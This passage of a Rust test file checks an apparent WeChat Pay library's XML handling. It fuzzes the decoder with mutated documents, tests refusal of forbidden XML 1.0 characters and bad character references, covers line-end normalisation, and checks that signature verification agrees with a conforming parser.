            doc.push_str("<!-- - -- -->");
        }
        doc.push_str("</xml>");
        assert_eq!(xml::decode(doc.as_bytes()).unwrap().len(), 1);
        // An unterminated comment full of dashes.
        let mut doc = b"<xml><!--".to_vec();
        doc.resize(xml::DEFAULT_MAX_BYTES, b'-');
        let e = xml::decode(&doc).unwrap_err();
        assert_eq!((e.kind, e.offset), (XmlErrorKind::UnexpectedEof, 5));
    }

    #[test]
    fn a_megabyte_long_name() {
        let mut doc = b"<xml><".to_vec();
        doc.resize(xml::DEFAULT_MAX_BYTES, b'a');
        let e = xml::decode(&doc).unwrap_err();
        assert_eq!(e.kind, XmlErrorKind::UnexpectedEof);
    }
}

/// Decoding never panics on arbitrary bytes, and whatever it accepts
/// re-encodes to the same fields.
#[test]
fn mutated_documents_never_panic() {
    let base = include_bytes!("documents/payment_notify_md5.xml");
    let mut rng = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let alphabet = b"<>&;#x/![]CDATA-?= \"'\n\xE4\xB8\xAD\xFF";
    for _ in 0..5000 {
        let mut doc = base.to_vec();
        for _ in 0..1 + next() % 4 {
            let i = (next() % doc.len() as u64) as usize;
            let c = alphabet[(next() % alphabet.len() as u64) as usize];
            match next() % 3 {
                0 => doc[i] = c,
                1 => doc.insert(i, c),
                _ => {
                    doc.remove(i);
                }
            }
        }
        if let Ok(m) = xml::decode(&doc) {
            let again = xml::encode(&m).unwrap();
            let back: BTreeMap<String, String> =
                xml::decode(again.as_bytes()).unwrap().to_param_map();
            assert_eq!(back, m.to_param_map());
        }
    }
}

// ---------------------------------------------------------------- XML 1.0 Char

/// Characters outside XML 1.0's `Char` production (W3C XML 1.0, 5th ed.,
/// §2.2: `#x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] |
/// [#x10000-#x10FFFF]`) that UTF-8 can carry.
const FORBIDDEN: &[char] = &[
    '\0', '\u{1}', '\u{8}', '\u{B}', '\u{C}', '\u{E}', '\u{1B}', '\u{1F}', '\u{FFFE}', '\u{FFFF}',
];

/// Characters at the edges of `Char` that must keep being accepted.
const ALLOWED: &[char] = &[
    '\t',
    '\n',
    ' ',
    '\u{7F}',
    '\u{85}',
    '\u{9F}',
    '\u{D7FF}',
    '\u{E000}',
    '\u{FFFD}',
    '\u{10000}',
    '\u{10FFFF}',
];

#[test]
fn raw_forbidden_characters_are_refused_wherever_they_stand() {
    // (where, document with X for the character, field)
    let places: &[(&str, &str, Option<&str>)] = &[
        ("text", "<xml><a>1X2</a></xml>", Some("a")),
        ("text_alone", "<xml><a>X</a></xml>", Some("a")),
        ("cdata", "<xml><a><![CDATA[1X2]]></a></xml>", Some("a")),
        ("after_reference", "<xml><a>&amp;X</a></xml>", Some("a")),
        ("second_field", "<xml><a>1</a><b>2X</b></xml>", Some("b")),
        ("comment", "<xml><!-- X --><a>1</a></xml>", None),
        ("comment_in_field", "<xml><a>1<!--X-->2</a></xml>", None),
        ("between_fields", "<xml><a>1</a>X<b>2</b></xml>", None),
        (
            "declaration",
            "<?xml version=\"1.0\" X?><xml><a>1</a></xml>",
            None,
        ),
        ("after_root", "<xml><a>1</a></xml>X", None),
    ];
    for &c in FORBIDDEN {
        for (place, doc, field) in places {
            let doc = doc.replace('X', c.encode_utf8(&mut [0; 4]));
            let e = decode_err(doc.as_bytes(), &DecodeOptions::default());
            let want = doc.find(c).unwrap();
            assert_eq!(
                e.kind,
                XmlErrorKind::InvalidChar { ch: u32::from(c) },
                "{place} U+{:04X}",
                u32::from(c)
            );
            assert_eq!(e.offset, want, "{place} U+{:04X}", u32::from(c));
            assert_eq!(e.field.as_deref(), *field, "{place} U+{:04X}", u32::from(c));
            assert_eq!(e.code(), "ERR_XML_CHAR");
        }
    }
}

#[test]
fn an_earlier_error_is_reported_before_a_later_forbidden_character() {
    let e = decode_err(b"<xml><a x=\"1\">\0</a></xml>", &DecodeOptions::default());
    assert_eq!(e.kind, XmlErrorKind::Attribute);
    let e = decode_err(b"<xml><a>\x01</a><a>2</a></xml>", &DecodeOptions::default());
    assert_eq!(e.kind, XmlErrorKind::InvalidChar { ch: 1 });
}

#[test]
fn allowed_characters_at_the_edges_of_char_are_kept() {
    for &c in ALLOWED {
        for doc in ["<xml><a>1X2</a></xml>", "<xml><a><![CDATA[1X2]]></a></xml>"] {
            let doc = doc.replace('X', c.encode_utf8(&mut [0; 4]));
            let m = xml::decode(doc.as_bytes()).unwrap_or_else(|e| panic!("{doc:?}: {e}"));
            assert_eq!(m.get("a"), Some(format!("1{c}2").as_str()));
        }
    }
}

#[test]
fn character_references_must_name_an_xml_char() {
    let refused = [
        "&#0;",
        "&#1;",
        "&#x1;",
        "&#8;",
        "&#xB;",
        "&#xc;",
        "&#31;",
        "&#x1F;",
        "&#xFFFE;",
        "&#xFFFF;",
        "&#65535;",
        "&#xD800;",
        "&#xDFFF;",
        "&#x110000;",
    ];
    for r in refused {
        let doc = format!("<xml><a>x{r}</a></xml>");
        let e = decode_err(doc.as_bytes(), &DecodeOptions::default());
        assert_eq!(e.kind, XmlErrorKind::InvalidCharRef, "{r}");
        assert_eq!(e.offset, doc.find('&').unwrap(), "{r}");
        assert_eq!(e.field.as_deref(), Some("a"), "{r}");
        assert_eq!(e.code(), "ERR_XML_CHAR_REF");
    }
    let accepted = [
        ("&#9;", '\t'),
        ("&#xA;", '\n'),
        ("&#13;", '\r'),
        ("&#x20;", ' '),
        ("&#x7F;", '\u{7F}'),
        ("&#xD7FF;", '\u{D7FF}'),
        ("&#xE000;", '\u{E000}'),
        ("&#xFFFD;", '\u{FFFD}'),
        ("&#x10000;", '\u{10000}'),
        ("&#x10FFFF;", '\u{10FFFF}'),
    ];
    for (r, c) in accepted {
        let doc = format!("<xml><a>x{r}</a></xml>");
        let m = xml::decode(doc.as_bytes()).unwrap_or_else(|e| panic!("{r}: {e}"));
        assert_eq!(m.get("a"), Some(format!("x{c}").as_str()), "{r}");
    }
}

#[test]
fn line_ends_are_normalised_as_a_conforming_parser_does() {
    // (content as sent, value as read); XML 1.0 §2.11.
    let cases: &[(&str, &str)] = &[
        ("a\r\nb", "a\nb"),
        ("a\rb", "a\nb"),
        ("a\r\r\nb", "a\n\nb"),
        ("a\n\rb", "a\n\nb"),
        ("\r", "\n"),
        ("a\r", "a\n"),
        ("<![CDATA[a\r\nb]]>", "a\nb"),
        ("<![CDATA[a\r]]>\nb", "a\n\nb"),
        ("a\r&amp;\r\nb", "a\n&\nb"),
        // A CR given as a reference is not a line end: it stays.
        ("a&#13;\nb", "a\r\nb"),
        ("a&#xD;&#xA;b", "a\r\nb"),
        ("a\tb\nc", "a\tb\nc"),
    ];
    for (sent, read) in cases {
        let doc = format!("<?xml version=\"1.0\"?>\r\n<xml>\r\n<a>{sent}</a>\r\n</xml>\r\n");
        let m = xml::decode(doc.as_bytes()).unwrap_or_else(|e| panic!("{sent:?}: {e}"));
        assert_eq!(m.get("a"), Some(*read), "{sent:?}");
    }
}

#[test]
fn a_crlf_value_is_verified_as_the_merchants_parser_reads_it() {
    // The value a conforming parser hands the merchant is `a\nb`: a sign
    // over `a\r\nb` must not verify, a sign over `a\nb` must.
    let key = ApiKey::new("192006250b4c09247ec02edce69f6a2d");
    let over = |v: &str| wxpay_core::sign(&[("attach", v), ("mch_id", "1")], &key, SignType::Md5);
    for (signed_value, verifies) in [("a\nb", true), ("a\r\nb", false)] {
        let doc = format!(
            "<xml><attach><![CDATA[a\r\nb]]></attach><mch_id>1</mch_id><sign>{}</sign></xml>",
            over(signed_value)
        );
        let m = xml::decode(doc.as_bytes()).unwrap();
        assert_eq!(verify(&m, &key, None).is_ok(), verifies, "{signed_value:?}");
    }
}

#[test]
fn the_encoder_refuses_forbidden_characters_and_keeps_cr() {
    for &c in FORBIDDEN {
        let v = format!("x{c}y");
        let e = xml::encode(&[("a", "1"), ("attach", v.as_str())]).unwrap_err();
        assert_eq!(e.kind, XmlErrorKind::InvalidChar { ch: u32::from(c) });
        assert_eq!(e.field.as_deref(), Some("attach"));
        assert_eq!(e.code(), "ERR_XML_CHAR");
    }
    for v in ["a\r\nb", "\r", "a\rb]]>c\r", "]]>\r]]>", "a\n\tb"] {
        let x = xml::encode(&[("attach", v)]).unwrap();
        assert!(!x.contains('\r'), "a raw CR was written: {x:?}");
        assert_eq!(
            xml::decode(x.as_bytes()).unwrap().get("attach"),
            Some(v),
            "{x}"
        );
    }
    for &c in ALLOWED {
        let v = format!("x{c}y");
        let x = xml::encode(&[("attach", v.as_str())]).unwrap();
        assert_eq!(
            xml::decode(x.as_bytes()).unwrap().get("attach"),
            Some(v.as_str())
        );
    }
}

#[test]
fn a_notify_reply_never_carries_a_forbidden_character() {
    let body = xml::notify_reply(false, "bad\0sign\u{FFFF}\r\n");
    let m = xml::decode(body.as_bytes()).unwrap();
    assert_eq!(m.get("return_msg"), Some("bad\u{FFFD}sign\u{FFFD}\r\n"));
}
